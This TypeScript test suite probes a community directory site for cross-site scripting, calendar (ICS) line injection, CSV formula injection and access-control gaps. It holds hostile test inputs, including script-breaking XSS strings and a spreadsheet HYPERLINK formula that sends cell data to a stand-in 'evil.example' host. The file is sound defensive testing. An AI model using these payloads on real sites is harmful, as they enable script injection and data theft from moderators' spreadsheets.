// Hostile, written from issue 17 (A) without reading the implementation: the community assets directory
// as an attacker meets it. A member's suggestion carrying script-ending text is approved by a moderator and
// must come back out of every page's JSON-LD as the same text, with no extra <script> element; before that
// it is invisible through every door; a member cannot approve it; the moderators' spreadsheet is closed to
// members and visitors; an import with one bad row writes nothing; member text cannot forge calendar lines.
import { beforeAll, describe, expect, test } from 'vitest'

import { WebClient } from '../support/http.js'
import { formsOn } from '../support/pageCache.js'
import { api, makeMember, seededAdmin, seededModerator, textOf, type Member } from './forumHelpers.js'
import { signedIn, unique, useHostileServer } from './helpers.js'

const hostile = useHostileServer('i17-directory-attacks')

const LOCALITY = 'lancashire-east'
// Each piece would end or confuse a <script> element if copied into one raw: the end tag (any case, with
// a space), a comment opener (the "script data escaped" states), and U+2028/U+2029 (line ends in old JS).
const SCRIPT_BREAKERS = '</script><script>alert(1)</script> <!-- <script> </SCRIPT > \u2028 \u2029'

let suggester: Member
let nosy: Member
let suggesterClient: WebClient
let nosyClient: WebClient
let moderatorClient: WebClient
let visitor: WebClient

/** Suggests an entry through the public form, as a browser does; returns the id the admin's REST finds for the name. */
async function suggest(client: WebClient, fields: Record<string, string>, marker?: string): Promise<string> {
  const page = await client.get('/directory/suggest')
  const form = formsOn(await page.text(), '/directory/suggest')[0]
  if (!form) throw new Error('Arrange failed: no suggestion form')
  const response = await client.postForm('/directory/suggest', { ...form.fields, kind: 'recovery-cafe', locality: LOCALITY, meets: 'Tue 19:00', ...fields })
  if (response.status !== 303) throw new Error(`Arrange failed: suggestion gave ${response.status}: ${textOf(await response.text()).slice(0, 400)}`)
  return idByName(marker ?? fields.name!)
}

async function idByName(name: string): Promise<string> {
  // The site may tidy what was sent (spaces, line separators): find it by the plain words before any markup.
  const plain = name.split(/[<\u2028\u2029"=]/)[0]!.trim()
  const found = await api(hostile, seededAdmin(hostile), 'GET', `/api/directory-entries?where[name][like]=${encodeURIComponent(plain)}&depth=0&limit=5`)
  if (found.status !== 200 || found.json.docs.length !== 1) throw new Error(`Arrange failed: ${found.json?.docs?.length} entries named ${name} (${found.status})`)
  return String(found.json.docs[0].id)
}

const storedAsAdmin = async (id: string) => (await api(hostile, seededAdmin(hostile), 'GET', `/api/directory-entries/${id}?depth=0`)).json

const page = async (client: WebClient, path: string) => {
  const response = await client.get(path)
  return { status: response.status, body: await response.text() }
}

/** The raw text of every <script> element (to the first `</script`, as an HTML parser ends it), with its open tag. */
function scriptsIn(html: string): { tag: string; content: string }[] {
  const scripts: { tag: string; content: string }[] = []
  const re = /<script\b[^>]*>/gi
  let match: RegExpExecArray | null
  while ((match = re.exec(html))) {
    const start = match.index + match[0].length
    const end = html.slice(start).search(/<\/script/i)
    const content = end === -1 ? html.slice(start) : html.slice(start, start + end)
    scripts.push({ tag: match[0], content })
    re.lastIndex = start + (end === -1 ? content.length : end)
  }
  return scripts
}

function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value)
  else if (Array.isArray(value)) for (const v of value) stringsIn(v, out)
  else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsIn(v, out)
  return out
}

/**
 * The page's scripts are only JSON-LD (the CSP allows no inline script) or external files, each JSON-LD
 * body parses, cannot enter the "script data escaped" states (no `<!--`, no `<script`), and the texts we
 * expect come back out of it exactly. Returns the strings found in the JSON-LD.
 */
function checkJsonLd(html: string, expected: string[], where: string) {
  const scripts = scriptsIn(html)
  const strings: string[] = []
  for (const { tag, content } of scripts) {
    const isJsonLd = /type="application\/ld\+json"/i.test(tag)
    expect(isJsonLd || /\bsrc="/i.test(tag), `${where}: an inline script that is not JSON-LD: ${tag}${content.slice(0, 80)}`).toBe(true)
    if (!isJsonLd) continue
    expect(content, `${where}: JSON-LD that a browser would read in the escaped state`).not.toMatch(/<!--|<script/i)
    strings.push(...stringsIn(JSON.parse(content)))
  }
  for (const text of expected) expect(strings, `${where}: JSON-LD does not carry the text back exactly`).toContain(text)
  // The raw hostile markup never appears outside a script either (the visible HTML escapes it).
  expect(html).not.toContain('<script>alert(1)')
  return strings
}

beforeAll(async () => {
  suggester = await makeMember(hostile, { name: 'Dir suggester' })
  nosy = await makeMember(hostile, { name: 'Dir nosy' })
  suggesterClient = await signedIn(hostile.server, suggester.email, suggester.password)
  nosyClient = await signedIn(hostile.server, nosy.email, nosy.password)
  moderatorClient = await signedIn(hostile.server, seededModerator(hostile).email, seededModerator(hostile).password)
  visitor = new WebClient(hostile.server.url)
})

describe('a hostile suggestion, before and after a moderator approves it', () => {
  const marker = unique('dirx')
  const name = `Cafe ${marker} ${SCRIPT_BREAKERS}`
  const description = `Tea ${marker} ${SCRIPT_BREAKERS} "quoted" \\ back`
  const contact = `Ask for Sam ${SCRIPT_BREAKERS}`
  let id: string
  let storedName: string
  let storedDescription: string
  let storedContact: string

  test('the suggestion is stored as suggested, with the text as sent', async () => {
    id = await suggest(suggesterClient, { name, description, contact, meets: 'Tue 19:00; 1st Sat 10:30' })
    const stored = await storedAsAdmin(id)
    expect(stored.status).toBe('suggested')
    // What the site keeps is what the pages must give back; the attack only means something if the
    // script-ending pieces survived the form.
    storedName = stored.name
    storedDescription = stored.description
    storedContact = stored.contact
    expect(storedName).toContain('</script><script>alert(1)</script>')
    expect(storedName).toContain('<!--')
    expect(storedDescription).toContain('</script>')
    // Control: the suggester sees their own record, so the "nobody else sees it" checks below can fail.
    const own = await api(hostile, suggester, 'GET', `/api/directory-entries/${id}`)
    expect(own.status).toBe(200)
    expect(own.text).toContain(marker)
  })

  test('before approval it is invisible to a visitor and to another member through every door', async () => {
    const leaks: string[] = []
    for (const [who, client, label] of [
      [null, visitor, 'visitor'],
      [nosy, nosyClient, 'other member'],
    ] as const) {
      const restDoors = [
        `/api/directory-entries/${id}`,
        '/api/directory-entries?limit=1000&depth=0',
        `/api/directory-entries?where[name][like]=${marker}`,
        `/api/directory-entries?where[status][equals]=suggested`,
        `/api/directory-entries?where[id][equals]=${id}&depth=2`,
      ]
      for (const door of restDoors) {
        const answer = await api(hostile, who, 'GET', door)
        if (answer.text.includes(marker)) leaks.push(`${label} ${door} (${answer.status})`)
      }
      const graphql = await api(hostile, who, 'POST', '/api/graphql', { query: '{ DirectoryEntries(limit: 1000) { docs { id name } } }' })
      if (graphql.text.includes(marker)) leaks.push(`${label} GraphQL`)
      const pages = [
        '/directory',
        `/directory?locality=${LOCALITY}&kind=recovery-cafe&day=tue`,
        `/directory?when=week`,
        `/directory/${id}`,
        `/directory/${id}/calendar.ics`,
        `/directory/${id}/correct`,
        `/localities/${LOCALITY}`,
        `/localities/${LOCALITY}/meetings.ics`,
        `/search?q=${encodeURIComponent(marker.slice(0, -2))}`,
        '/feed.xml',
        '/sitemap.xml',
        '/sitemap-1.xml',
      ]
      for (const path of pages) {
        const { status, body } = await page(client, path)
        if (body.includes(marker) || body.includes(`/directory/${id}<`) || body.includes(`/directory/${id}"`)) leaks.push(`${label} ${path} (${status})`)
      }
      const ics = await client.get(`/directory/${id}/calendar.ics`)
      expect(ics.status, `${label}: calendar of an unapproved entry`).toBe(404)
    }
    expect(leaks).toEqual([])
  })

  test('the suggester cannot approve it: REST PATCH, a forged create, the moderators form', async () => {
    const patch = await api(hostile, suggester, 'PATCH', `/api/directory-entries/${id}`, { status: 'approved', checkedOn: new Date().toISOString() })
    expect(patch.status).not.toBe(500)
    expect((await storedAsAdmin(id)).status).toBe('suggested')

    const bulk = await api(hostile, suggester, 'PATCH', `/api/directory-entries?where[id][equals]=${id}`, { status: 'approved' })
    expect(bulk.status).not.toBe(500)
    expect((await storedAsAdmin(id)).status).toBe('suggested')

    const forgedName = `Forged ${unique('dirf')}`
    const created = await api(hostile, suggester, 'POST', '/api/directory-entries', { name: forgedName, kind: 1, locality: 3, status: 'approved', suggestedBy: nosy.id })
    if (created.status === 201) {
      const forged = await storedAsAdmin(String(created.json.doc.id))
      expect(forged.status).toBe('suggested')
      expect(String(forged.suggestedBy?.id ?? forged.suggestedBy)).toBe(String(suggester.id))
    } else expect(created.status).toBeLessThan(500)
    expect((await page(visitor, '/directory')).body).not.toContain(forgedName)

    // The moderators' decide form, posted by the suggester with their own valid form token.
    const token = await suggesterClient.csrfToken('/directory/suggest')
    const decide = await suggesterClient.postForm(`/directory/moderate/${id}/decide`, { _csrf: token, decision: 'approved' })
    expect([401, 403, 404]).toContain(decide.status)
    const moderatePage = await suggesterClient.get('/directory/moderate')
    expect(moderatePage.status).not.toBe(200)
    expect((await storedAsAdmin(id)).status).toBe('suggested')
  })

  test('after a moderator approves it through the moderation page, every page carries the text safely', async () => {
    const moderation = await moderatorClient.get('/directory/moderate')
    const html = await moderation.text()
    checkJsonLd(html, [], '/directory/moderate')
    const approve = formsOn(html, `/directory/moderate/${id}/decide`).find((f) => f.fields.decision === 'approved')
    expect(approve, 'the moderator has an Approve form for the suggestion').toBeDefined()
    const decided = await moderatorClient.postForm(approve!.action, approve!.fields)
    expect(decided.status).toBe(303)
    expect((await storedAsAdmin(id)).status).toBe('approved')

    // Listing, filtered listing, entry page (its JSON-LD must carry name, description and contact back).
    checkJsonLd((await page(visitor, '/directory')).body, [storedName], '/directory')
    checkJsonLd((await page(visitor, `/directory?locality=${LOCALITY}&kind=recovery-cafe`)).body, [storedName], '/directory filtered')
    const entry = await page(visitor, `/directory/${id}`)
    expect(entry.status).toBe(200)
    const entryStrings = checkJsonLd(entry.body, [storedName, storedDescription], `/directory/${id}`)
    // If the contact is in the JSON-LD at all, it is there whole.
    const contactStrings = entryStrings.filter((s) => s.includes('Ask for Sam'))
    for (const s of contactStrings) expect(s).toContain(storedContact.trim())
    // A member's view of the same pages (pages may be rendered differently for members).
    checkJsonLd((await page(nosyClient, `/directory/${id}`)).body, [storedName], `/directory/${id} as a member`)
    // The locality page lists the entry: its listing's JSON-LD carries the name back whole, and no extra script.
    const locality = await page(visitor, `/localities/${LOCALITY}`)
    expect(locality.body).toContain(`/directory/${id}`)
    checkJsonLd(locality.body, [storedName], `/localities/${LOCALITY}`)
    expect(visibleScriptFree(locality.body)).toBe(true)
  })

  test('the calendar of the approved entry: member text cannot add lines or events', async () => {
    const injected = `${unique('dirics')}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nDTSTART:20300101T000000Z`
    const icsId = await suggest(suggesterClient, { name: `Calendar ${unique('dirc')}`, description: injected, meets: 'Wed 18:00', contact: 'line1\nATTENDEE:mailto:evil@evil.example' })
    await approveAsModerator(icsId)
    const ics = await page(visitor, `/directory/${icsId}/calendar.ics`)
    expect(ics.status).toBe(200)
    const lines = ics.body.split(/\r?\n/)
    expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1)
    expect(lines.some((l) => /^SUMMARY:Injected/.test(l))).toBe(false)
    expect(lines.some((l) => /^ATTENDEE/.test(l))).toBe(false)
    expect(lines.some((l) => /^DTSTART:2030/.test(l))).toBe(false)
  })
})

function visibleScriptFree(html: string): boolean {
  return !/<script>alert|<img[^>]+onerror/i.test(html)
}

async function approveAsModerator(id: string) {
  const html = await (await moderatorClient.get('/directory/moderate')).text()
  const approve = formsOn(html, `/directory/moderate/${id}/decide`).find((f) => f.fields.decision === 'approved')
  if (!approve) throw new Error(`Arrange failed: no Approve form for ${id}`)
  const response = await moderatorClient.postForm(approve.action, approve.fields)
  if (response.status !== 303) throw new Error(`Arrange failed: approve gave ${response.status}`)
}

describe('the moderators spreadsheet', () => {
  const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE'] as const

  test('export and import are refused to visitors and members, whatever the method', async () => {
    const memberToken = await nosyClient.csrfToken('/directory/suggest')
    const visitorToken = await visitor.csrfToken('/login')
    const leaks: string[] = []
    for (const [label, client, token] of [
      ['visitor', visitor, visitorToken],
      ['member', nosyClient, memberToken],
    ] as const) {
      for (const path of ['/directory/moderate/export.csv', '/directory/moderate/import', '/directory/moderate']) {
        for (const method of methods) {
          const response = await client.request(path, { method, headers: method === 'GET' || method === 'HEAD' ? {} : { origin: hostile.server.url, 'x-csrf-token': token } })
          const body = method === 'HEAD' ? '' : await response.text()
          if (response.status < 300 || response.status >= 500 || /^id,name,kind/m.test(body)) leaks.push(`${label} ${method} ${path}: ${response.status}`)
        }
      }
    }
    expect(leaks).toEqual([])
  })

  test('a member posting a well-formed import with their own form token adds nothing', async () => {
    const name = `Imported by member ${unique('dirim')}`
    const csv = `id,name,kind,locality,address,postcode,meets,meets_note,cost,contact,website,accessibility,description,checked_on,status\n,${name},aa,${LOCALITY},1 High St,BB1 1AA,Mon 19:00,,Free,,,,A group,2026-01-01,approved\n`
    for (const client of [nosyClient, visitor]) {
      const form = new FormData()
      form.append('_csrf', await client.csrfToken(client === visitor ? '/login' : '/directory/suggest'))
      form.append('file', new Blob([csv], { type: 'text/csv' }), 'directory.csv')
      const response = await client.request('/directory/moderate/import', { method: 'POST', body: form, headers: { origin: hostile.server.url } })
      expect(response.status).toBeGreaterThanOrEqual(300)
      expect(response.status).toBeLessThan(500)
    }
    const found = await api(hostile, seededAdmin(hostile), 'GET', `/api/directory-entries?where[name][equals]=${encodeURIComponent(name)}`)
    expect(found.json.docs).toHaveLength(0)
  })

  test('an import with one bad row names that row by number and writes nothing', async () => {
    const good1 = `Import good ${unique('dirg')}`
    const good2 = `Import good ${unique('dirg')}`
    const csv = [
      'id,name,kind,locality,address,postcode,meets,meets_note,cost,contact,website,accessibility,description,checked_on,status',
      `,${good1},aa,${LOCALITY},1 High St,BB1 1AA,Mon 19:00,,Free,,,,A group,2026-11-01,approved`,
      `,${good2},na,${LOCALITY},2 High St,BB1 1AB,Thu 19:30,,Free,,,,A group,2026-11-01,approved`,
      `,Bad row ${unique('dirb')},no-such-kind,${LOCALITY},3 High St,BB1 1AC,Someday 25:99,,Free,,,,A group,2026-11-01,approved`,
    ].join('\n')
    const form = new FormData()
    form.append('_csrf', await moderatorClient.csrfToken('/directory/moderate'))
    form.append('file', new Blob([csv], { type: 'text/csv' }), 'directory.csv')
    const response = await moderatorClient.request('/directory/moderate/import', { method: 'POST', body: form, headers: { origin: hostile.server.url } })
    expect(response.status).toBeLessThan(500)
    let text = textOf(await response.text())
    if (response.status === 303) text = textOf((await page(moderatorClient, response.headers.get('location')!)).body)
    // The header is row 1, so the bad row is row 4.
    expect(text).toMatch(/\brow 4\b/i)
    expect(text).not.toMatch(/\brow [23]\b/i)
    for (const good of [good1, good2]) {
      const found = await api(hostile, seededAdmin(hostile), 'GET', `/api/directory-entries?where[name][equals]=${encodeURIComponent(good)}`)
      expect(found.json.docs, `${good} was half-imported`).toHaveLength(0)
    }
  })

  test('the export neutralises a suggested name that a spreadsheet would run as a formula', async () => {
    const formulaMarker = unique('dirfx')
    const formula = `=HYPERLINK("https://evil.example/?"&A1,"x") ${formulaMarker}`
    const id = await suggest(suggesterClient, { name: formula, meets: 'Fri 10:00' }, formulaMarker)
    await approveAsModerator(id)
    const exported = await moderatorClient.get('/directory/moderate/export.csv')
    expect(exported.status).toBe(200)
    const csv = await exported.text()
    const row = csv.split(/\r?\n/).find((line) => line.startsWith(`${id},`))
    expect(row, 'the approved entry is in the export').toBeDefined()
    // No cell of the row starts with a formula character (quoted or not).
    const cells = row!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, ''))
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
  })
})

describe('a correction to an approved entry', () => {
  test('is invisible everywhere until a moderator approves it, and a member cannot apply it themselves', async () => {
    const listing = await page(visitor, `/directory?locality=${LOCALITY}`)
    const entryId = listing.body.match(/href="\/directory\/(\d+)"/)?.[1]
    expect(entryId, 'an approved entry in the listing').toBeDefined()
    const marker = unique('dircor')
    const html = (await page(nosyClient, `/directory/${entryId}/correct`)).body
    const form = formsOn(html, `/directory/${entryId}/correct`)[0]
    expect(form).toBeDefined()
    const correctedName = `Renamed ${marker} </script><script>alert(2)</script>`
    const sent = await nosyClient.postForm(form!.action, { ...form!.fields, name: correctedName, description: `Moved ${marker}`, correctionNote: `It moved ${marker}` })
    expect(sent.status).toBe(303)

    const seen: string[] = []
    for (const [who, client, label] of [
      [null, visitor, 'visitor'],
      [suggester, suggesterClient, 'other member'],
    ] as const) {
      for (const path of [`/directory/${entryId}`, `/directory/${entryId}/calendar.ics`, '/directory', `/localities/${LOCALITY}`, `/search?q=${marker.slice(0, -2)}`]) {
        if ((await page(client, path)).body.includes(marker)) seen.push(`${label} ${path}`)
      }
      for (const door of [`/api/directory-entries/${entryId}?depth=2`, '/api/directory-entries?limit=1000&depth=2']) {
        if ((await api(hostile, who, 'GET', door)).text.includes(marker)) seen.push(`${label} ${door}`)
      }
    }
    expect(seen).toEqual([])
    // The member who sent it cannot write it onto the entry through REST either.
    const patch = await api(hostile, nosy, 'PATCH', `/api/directory-entries/${entryId}`, { name: `Patched ${marker}` })
    expect(patch.status).toBeLessThan(500)
    expect((await storedAsAdmin(entryId!)).name).not.toContain(marker)
  })
})

describe('filters reflected into the page', () => {
  test('hostile query values never end a script or add markup, and are never a 500', async () => {
    const evil = encodeURIComponent('</script><script>alert(1)</script><!--"\'><img src=x onerror=alert(1)>\u2028')
    const paths = [
      `/directory?kind=${evil}`,
      `/directory?locality=${evil}`,
      `/directory?day=${evil}&when=${evil}`,
      `/directory?kind=aa&locality=${LOCALITY}&day=mon&when=week&extra=${evil}`,
      `/directory?kind[]=${evil}&locality[$ne]=x`,
      `/directory/${evil}`,
      `/directory/1/calendar.ics?x=${evil}`,
    ]
    for (const path of paths) {
      const { status, body } = await page(visitor, path)
      expect(status, path).toBeLessThan(500)
      checkJsonLd(body, [], path)
      expect(body, path).not.toMatch(/<img src=x onerror/i)
    }
  })
})
